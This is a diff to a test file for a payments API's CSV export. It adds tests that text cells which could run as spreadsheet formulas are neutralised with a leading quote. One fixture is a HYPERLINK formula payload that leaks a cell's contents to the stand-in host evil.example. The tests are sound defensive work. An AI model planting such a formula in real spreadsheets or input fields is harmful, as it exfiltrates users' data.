@@ -8,7 +8,8 @@ import { jobsOf, makeSeller, makeVariant, pay } from '../payments/payment-fixtur
 import { makeMembership } from '../memberships/fixtures.js';
 import { generateExport } from '../../handlers/exports/generate.js';
 import { expireExports } from '../../handlers/exports/expire.js';
-import { columnsAt } from '../../handlers/exports/csv-columns.js';
+import { columnsAt, csvWriter } from '../../handlers/exports/csv-columns.js';
+import { disputeOf, NETWORK_CARDS, paidWith, seller as disputeSeller } from '../disputes/dispute-fixtures.js';
 import { useTemporaryStore, type FileEnv } from '../files/file-env.js';
 
 const LATEST = '2026-09-06';
@@ -63,7 +64,7 @@ t('pending -> processing -> completed: a CSV of the account\'s payments at the l
   const created = await create('payments');
   assert.is(created.status, 201, JSON.stringify(created.body));
   const e = created.body;
-  assert.match(e.id, /^exp_/);
+  assert.match(e.id, /^exprt_/);
   assert.is(e.status, 'pending');
   assert.is(e.api_version, LATEST);
   for (const f of ['download_url', 'file_id', 'row_count', 'completed_at', 'expires_at']) assert.is(e[f], null, f);
@@ -75,7 +76,7 @@ t('pending -> processing -> completed: a CSV of the account\'s payments at the l
   assert.match(done.file_id, /^file_/);
   assert.ok(done.started_at && done.completed_at);
   assert.is(Date.parse(done.expires_at) - Date.parse(done.completed_at), 30 * 24 * 3600 * 1000);
-  assert.match(done.download_url, /\/downloads\/file_\w+\/payments-exp_\w+\.csv\?expires=\d+&signature=/);
+  assert.match(done.download_url, /\/downloads\/file_\w+\/payments-exprt_\w+\.csv\?expires=\d+&signature=/);
 
   const rows = await downloadCsv(done.download_url);
   assert.equal(rows[0], columnsAt('Payment', LATEST));
@@ -131,6 +132,59 @@ t('at the official client\'s pin the columns and cells are that version\'s (comp
   assert.ok(rows[0].includes('company_id'));
   assert.not.ok(rows[0].includes('account_id'));
   assert.is(rows[1][rows[0].indexOf('total')], '10.43');
+});
+
+t('formula injection: text cells that a spreadsheet would run are written behind a single quote', async () => {
+  // A buyer's dispute evidence is text the seller's spreadsheet opens: at the official client's pin it is flat cells.
+  const s = await disputeSeller(app);
+  const d = await disputeOf(app, (await paidWith(app, s, NETWORK_CARDS.chargeback)).id);
+  const evidence = {
+    customer_name: '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")',
+    notes: '@SUM(1+1)',
+    product_description: '+1+1',
+    access_activity_log: '-2+3',
+    billing_address: '\t=1+1',
+    refund_refusal_explanation: '\r=1+1',
+    cancellation_policy_disclosure: '\uFF1D1+1',
+    refund_policy_disclosure: 'Refunds within 30 days; =not at the start',
+  };
+  const upd = await app.request('POST', `/disputes/${d.id}/update_evidence`, { token: s.key, version: PIN, body: evidence });
+  assert.is(upd.status, 200, JSON.stringify(upd.body));
+  const e = (await create('disputes', s.key, PIN, s.accountId)).body;
+  await generateExport(app.db, e.id);
+  const rows = await downloadCsv((await retrieve(e.id, s.key, PIN)).body.download_url);
+  assert.is(rows.length, 2);
+  const cell = (column: string) => rows[1][rows[0].indexOf(column)];
+  assert.is(cell('customer_name'), `'${evidence.customer_name}`);
+  assert.is(cell('notes'), "'@SUM(1+1)");
+  assert.is(cell('product_description'), "'+1+1");
+  assert.is(cell('access_activity_log'), "'-2+3");
+  assert.is(cell('billing_address'), "'\t=1+1");
+  assert.is(cell('refund_refusal_explanation'), "'\r=1+1");
+  assert.is(cell('cancellation_policy_disclosure'), "'\uFF1D1+1");
+  // Only the first character matters; other text, ids and numbers are as the API shows them.
+  assert.is(cell('refund_policy_disclosure'), evidence.refund_policy_disclosure);
+  assert.is(cell('reason'), 'fraudulent');
+  assert.is(cell('id'), d.id);
+  assert.is(cell('amount'), '100');
+  // At the latest version the evidence is one object: a JSON cell, which begins with '{' and is left as it is.
+  const latest = (await create('disputes', s.key, LATEST, s.accountId)).body;
+  await generateExport(app.db, latest.id);
+  const now = await downloadCsv((await retrieve(latest.id, s.key)).body.download_url);
+  assert.equal(JSON.parse(now[1][now[0].indexOf('evidence')]).customer_name, evidence.customer_name);
+});
+
+t('the CSV writer: a negative number stays a number; the same text is neutralised', async () => {
+  const writer = csvWriter(['amount', 'label']);
+  const out: string[] = [];
+  writer.on('data', (chunk: Buffer) => out.push(chunk.toString()));
+  const ended = new Promise((resolve) => writer.on('end', resolve));
+  writer.write([-10.43, '-10.43']);
+  writer.write([-1043, 'plain']);
+  writer.write([0, '']);
+  writer.end();
+  await ended;
+  assert.equal(parseCsv(out.join('')), [['amount', 'label'], ['-10.43', "'-10.43"], ['-1043', 'plain'], ['0', '']]);
 });
 
 t('memberships export: another resource, its own columns', async () => {
